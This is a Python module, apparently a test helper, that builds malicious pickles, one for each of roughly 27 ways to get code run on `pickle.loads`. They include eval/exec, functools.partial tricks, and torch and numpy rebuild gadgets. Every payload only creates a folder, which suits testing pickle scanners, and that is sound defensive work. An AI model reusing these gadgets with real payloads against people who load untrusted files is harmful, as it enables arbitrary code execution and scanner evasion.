"""Pickles that make a folder when `pickle.loads` reads them: one per way of having code run."""

from __future__ import annotations

import pickle
import struct
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

Pickle = bytes


def text(value: str) -> bytes:
    """The instruction that pushes a string."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def name(module: str, attribute: str) -> bytes:
    """The instruction that pushes what a module has under a name."""
    return f"c{module}\n{attribute}\n".encode()


def call(function: bytes, *arguments: bytes) -> bytes:
    """The instructions that push the result of a call."""
    return function + b"(" + b"".join(arguments) + b"tR"


def nested(content: bytes) -> bytes:
    """The instructions that push bytes."""
    return b"B" + struct.pack("<I", len(content)) + content


def wrap(body: bytes, protocol: int = 4) -> Pickle:
    """A whole pickle."""
    return b"\x80" + bytes([protocol]) + body + b"."


_MKDIR = name("os", "mkdir")


def _partial(path: bytes) -> bytes:
    return call(name("functools", "partial"), _MKDIR, path)


_BODIES: dict[str, Callable[[bytes, str], bytes]] = {
    "reduce": lambda p, _: call(_MKDIR, p),
    "another module's name of it": lambda p, _: call(name("posix", "mkdir"), p),
    "stack global": lambda p, _: text("os") + text("mkdir") + b"\x93(" + p + b"tR",
    "dotted name": lambda p, _: text("pathlib") + text("os.mkdir") + b"\x93(" + p + b"tR",
    "inst": lambda p, _: b"(" + p + b"ios\nmkdir\n",
    "obj": lambda p, _: b"(" + _MKDIR + p + b"o",
    "eval": lambda _, raw: call(name("builtins", "eval"), text(f"__import__('os').mkdir({raw!r})")),
    "exec": lambda _, raw: call(name("builtins", "exec"), text(f"import os; os.mkdir({raw!r})")),
    "run": lambda _, raw: call(name("runpy", "_run_code"), call(name("builtins", "compile"),
                               text(f"import os; os.mkdir({raw!r})"), text("x"), text("exec")), b"}"),
    "attribute of an import": lambda p, _: call(
        call(name("builtins", "getattr"), call(name("importlib", "import_module"), text("os")), text("mkdir")), p),
    "bound method": lambda p, _: call(
        call(name("builtins", "getattr"), call(name("pathlib", "Path"), p), text("mkdir"))),
    "method caller": lambda p, _: call(
        call(name("operator", "methodcaller"), text("mkdir")), call(name("pathlib", "Path"), p)),
    "partial": lambda p, _: call(_partial(p)),
    "partial by newobj": lambda p, _: name("functools", "partial") + b"(" + _MKDIR + p + b"t\x81)R",
    "partial by newobj_ex": lambda p, _: name("functools", "partial") + b"(" + _MKDIR + p + b"t}\x92)R",
    "state of a partial": lambda p, _: _partial(text("elsewhere")) + b"(" + _MKDIR + b"(" + p + b"t}NtbN0)R",
    "lazy map": lambda p, _: call(name("builtins", "list"), call(name("builtins", "map"), _MKDIR, b"(" + p + b"l")),
    "factory of a defaultdict": lambda p, _: call(
        name("operator", "getitem"), call(name("collections", "defaultdict"), _partial(p)), text("k")),
    "argument of a known function": lambda p, _: call(name("collections", "OrderedDict"), b"(" + b"(" + text("k")
                                                     + call(_MKDIR, p) + b"ll"),
    "rebuilt from a type": lambda p, _: call(
        name("torch._tensor", "_rebuild_from_type_v2"), _MKDIR, name("torch", "Tensor"), b"(" + p + b"t", b"}"),
    "storage from bytes": lambda p, _: call(name("torch.storage", "_load_from_bytes"), call(_MKDIR, p)),
    "pickle in a pickle": lambda p, _: call(name("pickle", "loads"), nested(wrap(call(_MKDIR, p)))),
    "element of an array of objects": lambda p, _: (
        call(name("numpy._core.multiarray", "_reconstruct"), name("numpy", "ndarray"), b"(K\x00t", nested(b"b"))
        + b"(K\x01(K\x01t" + call(name("numpy", "dtype"), text("O8"), b"\x89", b"\x88")
        + b"\x89(" + call(_MKDIR, p) + b"ltb"),
    "key of a dict": lambda p, _: b"}" + call(_MKDIR, p) + text("value") + b"s",
    "state of an object": lambda p, _: call(name("argparse", "Namespace")) + b"}" + text("x") + call(_MKDIR, p) + b"sb",
    "discarded": lambda p, _: call(_MKDIR, p) + b"0N",
    "memoized": lambda p, _: _MKDIR + b"\x940h\x00(" + p + b"tR",
}  # fmt: skip

KINDS = tuple(_BODIES)


def make_evil_pickle(kind: str, folder: Path) -> Pickle:
    """A pickle of protocol 4 that makes `folder` in the way `kind` when it is loaded."""
    body = _BODIES[kind](text(str(folder)), str(folder))
    return wrap(body)


def works(content: Pickle, folder: Path) -> bool:
    """Whether `pickle.loads` runs the code in `content`; the folder is gone again afterwards."""
    # What comes after the call may fail; the folder is what counts.
    with suppress(Exception):
        pickle.loads(content)
    made = folder.is_dir()
    if made:
        folder.rmdir()
    return made
